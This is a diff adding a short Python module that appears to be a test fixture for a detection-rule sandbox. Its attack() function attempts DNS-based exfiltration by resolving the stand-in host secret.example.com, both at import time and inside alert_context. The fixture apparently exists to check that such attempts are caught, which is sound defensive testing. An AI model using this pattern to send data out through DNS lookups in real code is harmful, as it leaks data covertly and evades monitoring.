@@ -1,0 +1,19 @@
+"""Send data away in the names of hosts."""
+import socket
+
+from attempt import attempt, is_attack
+
+
+def attack():
+    return socket.getaddrinfo('secret.example.com', 80)
+
+
+AT_IMPORT = attempt(attack)
+
+
+def rule(event):
+    return is_attack(event)
+
+
+def alert_context(event):
+    return {'import': AT_IMPORT, 'call': attempt(attack)}
